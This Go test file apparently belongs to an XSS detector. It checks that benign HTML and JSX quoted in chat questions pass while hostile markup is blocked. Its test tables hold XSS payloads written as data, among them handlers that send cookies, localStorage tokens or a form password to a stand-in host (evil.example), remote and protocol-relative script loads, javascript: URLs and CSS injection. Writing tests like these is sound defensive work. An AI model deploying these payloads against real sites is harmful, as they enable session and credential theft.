package validate

import (
	"fmt"
	"strings"
	"testing"
)

// TestXSSCalmMarkup checks that markup people quote while asking about it
// stays under the chat threshold but over the strict one, and that the
// same shapes reaching a sink are still blocked in chat.
func TestXSSCalmMarkup(t *testing.T) {
	tests := []struct {
		name, text string
		chat       bool // blocked in chat
	}{
		{"jsx arrow setting state",
			`<li onClick={() => setSelected(item.id)}>{item.label}</li> re-renders the whole list?`, false},
		{"jsx handler by name",
			`Vue: <form onSubmit={submitForm}> vs @submit.prevent — welke is beter?`, false},
		{"jsx spread and style object",
			`<Card {...props} style={{ padding: 8 }} onClick={() => onPick(props.id)} />`, false},
		{"jsx change handler", `<select value={lang} onChange={ev => setLang(ev.target.value)}>`, false},
		{"quoted page function",
			`<button type="button" onclick="closeModal('signup')">x</button> closes nothing`, false},
		{"image fallback",
			`<img src="avatar.png" onerror="this.onerror=null;this.src='default.png'"> is that ok?`, false},
		{"local module script",
			`<script type="module" src="./main.mjs"></script> загружается дважды`, false},
		{"svg icon",
			`<svg width="16" height="16" viewBox="0 0 16 16" fill="none">` +
				`<circle cx="8" cy="8" r="7"/></svg>`, false},
		{"video frame",
			`<iframe src="https://player.vimeo.com/video/12345" width="640" allowfullscreen></iframe>` +
				` 어떻게 반응형으로?`, false},
		{"mail layout",
			`<table cellpadding="0" style="width:100%;font-family:Helvetica,sans-serif"><tr>` +
				`<td style="padding:8px 0;color:#555">Hi</td></tr></table> Outlook ignores padding`, false},
		{"stylesheet element",
			"<style>\n.card > h2 { margin: 0; color: #222 }\n</style> ne s'applique pas", false},
		{"void link driven by a handler",
			`<a href="javascript:void(0)" onclick="nextSlide()">›</a> — bad practice?`, false},
		{"calm handler beside typographic marks",
			`<a href="#" onclick="prevSlide()">‹</a> “why” — it scrolls`, false},
		{"calm handler beside quoted HTML",
			`&lt;div onClick={handleClick}&gt; vs &lt;div onClick={() =&gt; handleClick()}&gt;`, false},
		{"entity-encoded handler", `<a href="#" onclick="&#115;ubmit()">x</a>`, true},
		{"handler reaching alert", `<li onClick={() => alert(document.cookie)}>x</li>`, true},
		{"quoted handler fetching",
			`<a href="#" onclick="fetch('//evil.example/'+localStorage.t)">go</a>`, true},
		{"handler with template call", `<b onmouseover="alert` + "`1`" + `">x</b>`, true},
		{"handler with string lookup", `<p onclick="this['al'+'ert'](1)">x</p>`, true},
		{"handler through globalThis", `<div onClick={() => globalThis.open('//x.example')}>`, true},
		{"unquoted handler", `<img src=x onerror=showIt()>`, true},
		{"second handler after arrow", `<a onClick={() => go()} onMouseOver="eval(name)">x</a>`, true},
		{"handler after an arrow value", `<input value={v => v.trim()} onFocus="alert(1)">`, true},
		{"script from another host", `<script src="https://cdn.evil.example/x.js"></script>`, true},
		{"protocol-relative script", `<script src="//evil.example/x.js"></script>`, true},
		{"local script with inline code", `<script src="app.js">fetch('/x')</script>`, true},
		{"legacy element behind a JSX value", `<xml id="i" src="island.htc" k={v}></xml>`, true},
		{"frame of a script URL", `<iframe src="javascript:alert(1)"></iframe>`, true},
		{"stylesheet loading script", `<style>body { background: url(javascript:alert(1)) }</style>`, true},
		{"stylesheet with an import", `<style>@import '//evil.example/x.css';</style>`, true},
		{"void link that goes on", `<a href="javascript:void(0);alert(document.domain)">x</a>`, true},
		{"style with expression", `<div style="width:expression(alert(1))">x</div>`, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in := prepare(tt.text)
			score, detail := detectXSS(in, Chat)
			if blocked := score >= DefaultChatThreshold; blocked != tt.chat {
				t.Errorf("chat blocked = %v (%.2f %s), want %v: %q", blocked, score, detail, tt.chat, tt.text)
			}
			if s, _ := detectXSS(in, Strict); s < DefaultStrictThreshold {
				t.Errorf("strict score %.2f below its threshold: %q", s, tt.text)
			}
		})
	}
}

// TestCalmCode checks the judgment of handler code.
func TestCalmCode(t *testing.T) {
	tests := []struct {
		code string
		want bool
	}{
		{"togglemenu()", true},
		{"() => setcount(count + 1)", true},
		{"e => setform({...form, [e.target.name]: e.target.value})", true},
		{"alert(1)", false},
		{"x=self;x.alert(1)", false},
		{"settimeout('go()', 9)", false},
		{"settimeout(() => setopen(false), 200)", true},
		{"function () { save(1) }", true},
		{"new function ('return 1')()", false},
		{"setinterval(\"tick()\", 1000)", false},
		{"a['constructor']", false},
		{`go('\x41')`, false},
		{"location.hash='x'", false},
		{"setopen(!open)", true},
		{"open('/help')", false},
		{"new image().src='//evil.example/?'+this.form.pw.value", false},
		{"router.push('/settings')", true},
		{"document.getelementbyid('menu').classlist.toggle('open')", true},
		{"document.write(1)", false},
		{"document.body.innerhtml=''", false},
		{"() => navigate(`/users/${id}`)", true},
		{"setmsg(`hi ${name} there`)", true},
		{"x=`a`+y`b`", false},
		{"fn()`1`", false},
		{"x[`cookie`]", false},
		{"go(`//evil.example`)", false},
	}
	for _, tt := range tests {
		if got := calmCode(tt.code); got != tt.want {
			t.Errorf("calmCode(%q) = %v, want %v", tt.code, got, tt.want)
		}
	}
}

// TestInertScriptURL checks which javascript: URLs do nothing.
func TestInertScriptURL(t *testing.T) {
	tests := []struct {
		s    string
		want bool
	}{
		{`javascript:void(0)"`, true},
		{"javascript:;", true},
		{"javascript:void(0)+alert(1)", false},
		{"javascript:;alert(1)", false},
		{"javascript:alert(1)", false},
	}
	for _, tt := range tests {
		if got := inertScriptURL(tt.s); got != tt.want {
			t.Errorf("inertScriptURL(%q) = %v, want %v", tt.s, got, tt.want)
		}
	}
}

// TestHasEscapes checks which raw texts count as escaped.
func TestHasEscapes(t *testing.T) {
	tests := []struct {
		s    string
		want bool
	}{
		{"a&#97;b", true},
		{"x%3cy", true},
		{`\x3c`, true},
		{"alert&lpar;1&rpar;", true},
		{"&lt;b&gt; &amp; &quot;", false},
		{"100% sure — “quoted” ›", false},
		{"AT&T; R&D", false},
	}
	for _, tt := range tests {
		if got := hasEscapes(tt.s); got != tt.want {
			t.Errorf("hasEscapes(%q) = %v, want %v", tt.s, got, tt.want)
		}
	}
}

// TestCalmCSS checks the judgment of inline styles.
func TestCalmCSS(t *testing.T) {
	tests := []struct {
		css  string
		want bool
	}{
		{"color:#333; font-family:'open sans', arial", true},
		{"background:url(https://example.com/a.png) no-repeat", true},
		{"background-image:url('img/hero.jpg')", true},
		{"padding:0 !important", true},
		{"background:url(x.svg)", false},
		{"font-family:foo}color:red", false},
		{"color:red/**/", false},
		{"-moz-binding:url(x.xml#y)", false},
		{"background:url(javascript:alert(1))", false},
		{`font-family:\61 lert`, false},
	}
	for _, tt := range tests {
		if got := calmCSS(tt.css); got != tt.want {
			t.Errorf("calmCSS(%q) = %v, want %v", tt.css, got, tt.want)
		}
	}
}

// TestNextAttr checks how attributes are read, values running past '>'
// inside quotes and braces included.
func TestNextAttr(t *testing.T) {
	tests := []struct {
		s           string
		name, value string
		delim       byte
	}{
		{` href="#top"`, "href", "#top", '"'},
		{` onclick={() => a > b && go()}>`, "onclick", "() => a > b && go()", '{'},
		{` src = 'x.png' `, "src", "x.png", '\''},
		{` width=100>`, "width", "100", ' '},
		{` defer>`, "defer", "", 0},
		{` {...rest}>`, "", "...rest", '{'},
	}
	for _, tt := range tests {
		a, ok := nextAttr(tt.s, 0)
		if !ok || a.name != tt.name || a.value != tt.value || a.delim != tt.delim || !a.closed {
			t.Errorf("nextAttr(%q) = %+v, %v; want %s=%q (%q)", tt.s, a, ok, tt.name, tt.value, tt.delim)
		}
	}
	if _, ok := nextAttr(" >", 0); ok {
		t.Error("nextAttr read an attribute at the end of a tag")
	}
}

// TestCalmMarkupLinear checks that runs of tags whose attribute values
// never close cost work linear in the text.
func TestCalmMarkupLinear(t *testing.T) {
	if testing.Short() {
		t.Skip("timing test; run without -short")
	}
	const n = 16 << 10
	judge := func(s string) { detectXSS(prepare(s), Chat) }
	for _, unit := range []string{`<a b=`, `<a b="`, `<a b={`, `<a onclick={{`, `<a b `} {
		small := strings.Repeat(unit, n/len(unit))
		large := strings.Repeat(unit, 2*n/len(unit))
		wantLinear(t, fmt.Sprintf("%q", unit), small, large, judge)
	}
}

func TestShownMarkupOnly(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want bool
	}{
		{"what is `<script defer>` for?", true},
		{"```html\n<img src=x onerror=alert(1)>\n```\nwhy does this alert?", true},
		{"`<script>alert(1)</script>`", false},                // the whole message
		{"see `<b>` and <img src=x onerror=alert(1)>", false}, // markup outside the code too
		{"name`<svg onload=alert(1)>`", false},                // glued to a word
		{"no code here <script>alert(1)</script>", false},
	} {
		if got := shownMarkupOnly(tc.in); got != tc.want {
			t.Errorf("shownMarkupOnly(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
}

func TestIndexBefore(t *testing.T) {
	for _, tc := range []struct {
		s, word, sep string
		want         int
	}{
		{"see data:text/html,x", "data", ":", 4},
		{"ftp://a and file:///etc", "file", "://", 12},
		{"metadata : x", "data", ":", -1}, // a space before the colon
		{"no scheme here", "file", "://", -1},
	} {
		if got := indexBefore(tc.s, tc.word, tc.sep); got != tc.want {
			t.Errorf("indexBefore(%q, %q, %q) = %d, want %d", tc.s, tc.word, tc.sep, got, tc.want)
		}
	}
}
